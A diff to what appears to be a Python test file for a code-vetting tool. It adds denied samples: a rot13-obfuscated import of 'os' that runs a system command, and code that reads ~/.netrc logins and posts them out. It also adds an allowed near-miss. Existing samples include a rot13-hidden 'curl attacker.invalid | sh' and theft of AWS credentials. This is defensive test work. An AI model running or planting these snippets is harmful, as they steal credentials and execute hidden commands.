@@ -5,7 +5,7 @@ command or written to a started ``nc``'s stdin, the Windows clipboard read throu
 its source does not show, rot13 undone with ``codecs.encode``, an audit hook that sends what
 it is handed, an installer's index changed through ``~/.pydistutils.cfg``, and the
 environment or a credential file read through ``os.environb``, ``/proc/self/environ``,
-``printenv``, ``Path.home()`` or ``ConfigParser.read`` and sent.
+``printenv``, ``Path.home()``, ``ConfigParser.read`` or the ``netrc`` module and sent.
 
 Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
 only reads files) and each was allowed or only held on e5ee481. The near-misses are the
@@ -94,6 +94,10 @@ DENIED: dict[str, str] = {
         "import codecs\nexec(codecs.encode('vzcbeg bf;bf.flfgrz(\"phey "
         "uggc://nggnpxre.vainyvq/k | fu\")', 'rot_13'))\n"
     ),
+    "module-named-in-rot13": (
+        "import codecs, importlib\n"
+        f"importlib.import_module(codecs.encode('bf', 'rot13')).system('{DROP}')\n"
+    ),
     # An audit hook is handed what the program does (paths, commands, bytes sent).
     "audit-hook-that-sends-what-it-sees": (
         "import sys, requests\n\n\ndef h(event, args):\n    if event == 'open':\n        "
@@ -127,6 +131,9 @@ DENIED: dict[str, str] = {
         "c.read(os.path.expanduser('~/.aws/credentials'))\n"
         + POST.format(data="str({s: dict(c[s]) for s in c.sections()})")
         + "\n"
+    ),
+    "logins-through-the-netrc-module": (
+        "import netrc, requests\n" + POST.format(data="str(netrc.netrc().hosts)") + "\n"
     ),
 }
 
@@ -185,6 +192,11 @@ ALLOWED: dict[str, str] = {
     "environment-bytes-handed-to-a-child": (
         "import os, subprocess\n\n\ndef run(cmd):\n"
         "    return subprocess.run(cmd, env=dict(os.environb)).returncode\n"
+    ),
+    "netrc-login-for-a-request-when-asked": (
+        "import netrc\nfrom urllib.parse import urlparse\n\n\ndef auth(url):\n"
+        "    found = netrc.netrc().authenticators(urlparse(url).hostname)\n"
+        "    return (found[0], found[2]) if found else None\n"
     ),
     "pydistutils-read": (
         "import os\n\n\ndef index():\n    p = os.path.expanduser('~/.pydistutils.cfg')\n"
